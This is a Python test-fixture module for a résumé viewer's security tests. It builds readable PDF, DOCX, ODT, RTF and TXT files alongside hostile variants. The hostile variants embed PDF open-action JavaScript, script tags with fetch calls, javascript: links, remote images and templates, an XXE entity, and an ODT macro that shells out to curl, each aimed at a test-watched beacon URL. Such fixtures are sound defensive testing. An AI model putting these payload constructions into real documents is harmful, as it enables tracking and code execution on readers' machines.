"""Documents for the résumé viewer tests: readable ones, and hostile ones that try to run script or call home.

Each hostile builder takes ``beacon``, a URL of a server the test watches: any request
reaching it means the viewer let the document load something.
"""

import io
import zipfile


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF with a correct cross-reference table, from numbered object bodies (object 1 is the catalog)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def _escape_pdf(text: str) -> bytes:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1")


def text_pdf(pages=("Ada Lovelace", ), *, extra_catalog=b"", annotations=b"", extra_objects=()):
    """A PDF with one line of Helvetica text per page (objects: 1 catalog, 2 pages, 3 font, then pages)."""
    first_page = 4 + len(extra_objects)
    kids = b" ".join(b"%d 0 R" % (first_page + 2 * i) for i in range(len(pages)))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b" >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % len(pages),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra_objects,
    ]
    for index, text in enumerate(pages):
        stream = b"BT /F1 24 Tf 72 700 Td (" + _escape_pdf(text) + b") Tj ET"
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> "
            b"/Contents %d 0 R " % (first_page + 2 * index + 1) + annotations + b" >>"
        )
        objects.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    return _pdf(objects)


def hostile_pdf(beacon: str) -> bytes:
    """Text, plus JavaScript run on opening (OpenAction and the document's name tree) and a link home."""
    js = _escape_pdf(f"app.alert('pdf script ran'); this.submitForm('{beacon}/pdf-js'); app.launchURL('{beacon}/pdf-launch');")
    return text_pdf(
        ["Ada Lovelace, analyst (PDF)"],
        extra_catalog=b"/OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> /URI << /Base ("
        + _escape_pdf(beacon) + b") >>",
        extra_objects=[b"<< /Type /Action /S /JavaScript /JS (" + js + b") >>"],
        annotations=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 0] "
        b"/A << /S /URI /URI (" + _escape_pdf(beacon + "/pdf-link") + b") >> >>]",
    )


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' \
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_document(body: str, *, document_rels: str = "", settings_rels: str = "") -> bytes:
    """A Word document Word itself would open: content types, package and document relationships."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.document.main+xml"/></Types>'))
        archive.writestr("_rels/.rels", (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/></Relationships>'))
        archive.writestr("word/document.xml", (
            f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>{body}</w:body></w:document>'))
        archive.writestr("word/_rels/document.xml.rels", (
            '<?xml version="1.0" encoding="UTF-8"?>'
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{document_rels}'
            '</Relationships>'))
        if settings_rels:
            archive.writestr("word/settings.xml", f'<?xml version="1.0" encoding="UTF-8"?><w:settings {W}>'
                             '<w:attachedTemplate r:id="rIdT"/></w:settings>')
            archive.writestr("word/_rels/settings.xml.rels", (
                '<?xml version="1.0" encoding="UTF-8"?>'
                f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{settings_rels}'
                '</Relationships>'))
    return buffer.getvalue()


def _w_paragraph(text: str, style: str = "") -> str:
    from xml.sax.saxutils import escape

    properties = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f"<w:p>{properties}<w:r><w:t xml:space=\"preserve\">{escape(text)}</w:t></w:r></w:p>"


def readable_docx() -> bytes:
    return docx_document(_w_paragraph("Ada Lovelace", "Heading1") + _w_paragraph("Analyst of engines (DOCX)"))


def hostile_docx(beacon: str) -> bytes:
    """Script as text and as raw markup, javascript: and remote links, linked and remote images, a remote template."""
    body = (
        _w_paragraph("Ada Lovelace (DOCX)", "Heading1")
        + _w_paragraph(f"<script>fetch('{beacon}/docx-text')</script><img src=\"{beacon}/docx-text-img\">")
        + '<w:p><w:hyperlink r:id="rIdJs"><w:r><w:t>javascript link</w:t></w:r></w:hyperlink></w:p>'
        + '<w:p><w:hyperlink r:id="rIdHome"><w:r><w:t>remote link</w:t></w:r></w:hyperlink></w:p>'
        + '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:docPr id="1" name="remote"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill>'
        '<a:blip r:link="rIdImg"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>'
        '</w:r></w:p>'
    )
    rels = (
        f'<Relationship Id="rIdJs" Type="{REL}/hyperlink" Target="javascript:alert(\'docx\')" TargetMode="External"/>'
        f'<Relationship Id="rIdHome" Type="{REL}/hyperlink" Target="{beacon}/docx-link" TargetMode="External"/>'
        f'<Relationship Id="rIdImg" Type="{REL}/image" Target="{beacon}/docx-image.png" TargetMode="External"/>'
    )
    template = (f'<Relationship Id="rIdT" Type="{REL}/attachedTemplate" Target="{beacon}/docx-template.dotm" '
                'TargetMode="External"/>')
    return docx_document(body, document_rels=rels, settings_rels=template)


ODT_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odt_document(body: str, *, prolog: str = "") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
                         f'<office:document-content {ODT_NS}>{body}</office:document-content>')
    return buffer.getvalue()


def readable_odt() -> bytes:
    return odt_document(
        '<office:body><office:text><text:h text:outline-level="1">Ada Lovelace</text:h>'
        '<text:p>Analyst of engines (ODT)</text:p><text:list><text:list-item><text:p>Notes on the engine</text:p>'
        '</text:list-item></text:list></office:text></office:body>'
    )


def hostile_odt(beacon: str) -> bytes:
    """An embedded script, a javascript: and a remote link, a remote image and markup as text."""
    return odt_document(
        f'<office:scripts><office:script script:language="ooo:Basic">Shell("curl {beacon}/odt-macro")'
        '</office:script></office:scripts>'
        '<office:body><office:text><text:h text:outline-level="1">Ada Lovelace (ODT)</text:h>'
        f'<text:p>&lt;script&gt;fetch("{beacon}/odt-text")&lt;/script&gt;</text:p>'
        '<text:p><text:a xlink:href="javascript:alert(1)">javascript link</text:a> '
        f'<text:a xlink:href="{beacon}/odt-link">remote link</text:a></text:p>'
        f'<text:p><draw:frame><draw:image xlink:href="{beacon}/odt-image.png"/></draw:frame></text:p>'
        '</office:text></office:body>'
    )


def entity_odt(beacon: str) -> bytes:
    """content.xml declaring an external entity (XXE): refused, never fetched."""
    return odt_document(
        '<office:body><office:text><text:p>Ada &home;</text:p></office:text></office:body>',
        prolog=f'<!DOCTYPE office:document-content [<!ENTITY home SYSTEM "{beacon}/odt-entity">]>',
    )


def hostile_rtf(beacon: str) -> bytes:
    return (
        "{\\rtf1\\ansi Ada Lovelace (RTF)\\par "
        f'{{\\field{{\\*\\fldinst{{HYPERLINK "{beacon}/rtf-link"}}}}{{\\fldrslt{{remote link}}}}}}\\par '
        f'{{\\field{{\\*\\fldinst{{INCLUDEPICTURE "{beacon}/rtf-picture.png" \\\\d}}}}{{\\fldrslt{{}}}}}}\\par '
        "{\\object\\objautlink{\\*\\objclass Package}{\\*\\objdata 0102030405}}\\par "
        f"<script>fetch('{beacon}/rtf-text')</script>}}"
    ).encode("latin-1")


def hostile_txt(beacon: str) -> bytes:
    return (
        f"Ada Lovelace (TXT)\n<script>fetch('{beacon}/txt-script')</script>\n<img src=\"{beacon}/txt-img\">\n"
        f"<a href=\"javascript:alert(1)\">javascript link</a>\n"
    ).encode()
